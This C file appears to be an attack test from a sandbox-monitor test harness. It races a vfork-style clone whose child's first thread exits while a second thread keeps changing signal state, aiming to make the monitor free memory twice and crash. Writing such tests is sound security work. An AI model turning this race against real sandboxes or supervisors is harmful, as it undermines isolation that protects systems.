// A child of clone(CLONE_VM | CLONE_FILES | CLONE_VFORK) makes a thread, and its first thread ends by exit(2) while the other
// lives on.  The parent comes back from its clone and takes back what belonged to the child's first thread, which has
// given it back itself, and the process's own state, which the other thread still uses.
#include "attack.h"
#include <linux/sched.h>
#include <pthread.h>

#define STACK (64UL << 10)
#define THREAD (CLONE_VM | CLONE_FS | CLONE_FILES | CLONE_SIGHAND | CLONE_THREAD | CLONE_SYSVSEM)

static volatile int go_on;

static int stays(void *argument) {
    (void)argument;
    for (int i = 0; i < 200; i++) {
        struct sigaction action = {.sa_handler = SIG_DFL};
        syscall(SYS_rt_sigaction, SIGUSR1, &action, NULL, 8); // the process's state
        syscall(SYS_sched_yield);
        go_on++;
    }
    syscall(SYS_exit, 0);
    return 0;
}

static int child(void *argument) {
    char *stack = argument;
    if (clone(stays, stack + STACK, THREAD, NULL, NULL, NULL, NULL) < 0)
        syscall(SYS_exit_group, 1);
    syscall(SYS_exit, 0); // not the group
    return 0;
}

static int ended_badly(int status) {
    return WIFSIGNALED(status) || (WIFEXITED(status) && WEXITSTATUS(status) == 127);
}

static void one(void *argument) {
    (void)argument;
    char *stacks = mmap(NULL, 2 * STACK, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    for (int i = 0; i < 20; i++) {
        go_on = 0;
        if (clone(child, stacks + STACK, CLONE_VM | CLONE_FILES | CLONE_VFORK | SIGCHLD, stacks + STACK, NULL,
                  NULL, NULL) < 0)
            _exit(1);                  // refused: as good as served rightly
        for (int k = 0; k < 64; k++) { // takes memory from the monitor's heap and gives it back
            char path[4000];
            memset(path, 'a' + k % 26, sizeof path - 1);
            path[sizeof path - 1] = 0;
            access(path, F_OK);
        }
        int status;
        while (waitpid(-1, &status, __WALL) > 0)
            if (ended_badly(status))
                _exit(127);
    }
}

int main(void) {
    do {
        int status = attack_child(one, NULL);
        if (ended_badly(status))
            attack_won("a monitor's memory was given back twice: it ended by its own words");
    } while (!attack_over());
    attack_lost();
}
